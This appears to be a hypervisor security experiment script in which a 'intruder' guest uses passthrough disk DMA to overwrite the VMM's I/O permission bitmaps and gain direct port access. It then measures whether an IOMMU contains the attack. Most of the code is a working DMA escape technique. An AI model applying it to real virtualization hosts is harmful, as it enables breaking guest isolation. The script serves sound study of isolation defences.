// A guest is given the server's disk, and has the disk write where the guest itself never could: over the VMM's memory.
//
// The VMM's region lies behind the guest's 16 MiB. At 042068 and 042000 in it are the bitmaps that say which ports the
// guest may use (in the TSS, and for hardware assist). Two zeros over the bytes for E0 to EF open those to the guest.
def REGION = 16.MiB
def ZEROS = 7                            // a sector of a new disk: 512 zeros

def command(sector, code) {              // one sector of the primary master
    [[0x1f2, 1], [0x1f3, sector], [0x1f4, 0], [0x1f5, 0], [0x1f6, 0xe0], [0x1f7, code]].each { port, value ->
        mov dx, port
        mov al, value
        out dx, al
    }
}
def transfer(list, sector) {             // READ DMA along a list of regions, polled
    mov dx, 0xc004                       // the bus master, where firmware puts it
    mov eax, list
    out dx, eax
    command sector, 0xc8
    mov dx, 0xc000
    mov al, 9
    out dx, al
    mov dx, 0x1f7
    busy:
    in al, dx
    test al, 0x80
    jnz busy
    mov dx, 0xc000
    mov al, 0
    out dx, al
}

def intruder = guest('intruder') {
    kernel {
        mov al, 'a'
        out 0xe9, al                     // the debug console: its ports are the VMM's
        transfer regions, ZEROS
        mov al, 'b'
        out 0xe9, al                     // the VMM's still?
        checkpoint 'own memory', dword[buffer]
        halt
    }
    data {
        align 8
        regions: dd REGION + 0x42084, 2
        dd REGION + 0x4201c, 2
        dd buffer, 0x80000000 | 508
        buffer: times 512 db 0xff
    }
}

server { year 2008; iommu true; frames 'oneToOne'; disk 'system', size: 1.MiB }
experiment('with an IOMMU') {
    run intruder, under: [bare, deprivileged(devices: 'passthrough'), hardware(devices: 'passthrough')]
    expect deprivileged(devices: 'passthrough').equivalent
    expect hardware(devices: 'passthrough').controlled
    table directPorts, dmaFaults, iotlbHits, iotlbMisses, iommuReferences, controlled, domains
}

server { year 2008; iommu false; frames 'oneToOne'; disk 'system', size: 1.MiB }
experiment('without') {
    run intruder, under: [bare, deprivileged(devices: 'passthrough'), hardware(devices: 'passthrough')]
    expect deprivileged(devices: 'passthrough').diverges
    expect hardware(devices: 'passthrough').uncontrolled
    table directPorts, controlled
}
